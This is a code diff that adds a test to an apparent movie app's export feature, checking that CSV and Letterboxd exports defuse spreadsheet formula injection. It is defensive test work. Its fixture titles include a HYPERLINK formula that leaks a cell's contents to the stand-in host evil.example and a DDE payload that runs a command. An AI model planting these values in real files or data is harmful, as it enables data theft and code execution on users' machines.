@@ -164,6 +164,34 @@ describe("export --letterboxd", () => {
   });
 });
 
+describe("formula injection (issue 17, item 5)", () => {
+  const TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "'=quoted"];
+  /** A cell a spreadsheet runs as a formula starts with one of these. */
+  const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+
+  it("--csv and --letterboxd write no title a spreadsheet would run, and each reads back as the title", async () => {
+    const owner = await seedUser(db, "formula_exporter", { ratings: [] });
+    const { csvCell } = await import("../../src/shared/csv.cjs");
+    for (const [index, title] of TITLES.entries()) {
+      const movie = await db.movie.create({ data: { tmdbId: 6_100_000 + index, title, releaseDate: "2001-01-01" } });
+      await db.userMovie.create({ data: { userId: owner, movieId: movie.id, rating: "LIKE" } });
+      await db.watchlist.create({
+        data: { userId: owner, movieId: (await db.movie.create({ data: { tmdbId: 6_200_000 + index, title } })).id },
+      });
+      await db.viewing.create({ data: { userId: owner, movieId: movie.id, watchedOn: null, rewatch: false } });
+    }
+    for (const [format, column] of [
+      ["csv", "title"],
+      ["letterboxd", "Title"],
+    ] as const) {
+      const cells = csvRows(await text(owner, format)).map((row) => row[column]);
+      expect(cells.length, format).toBeGreaterThanOrEqual(TITLES.length);
+      for (const cell of cells) expect(cell, format).not.toMatch(FORMULA_START);
+      expect(new Set(cells.map(csvCell)), format).toEqual(new Set(TITLES));
+    }
+  });
+});
+
 /** 20,000+ entries seeded by SQL: 12,000 ratings, 2,000 queued, 12,000 viewings (2,000 of them undated rewatches). */
 async function seedBigAccount(): Promise<string> {
   const owner = await seedUser(db, "big_exporter", { ratings: [] });
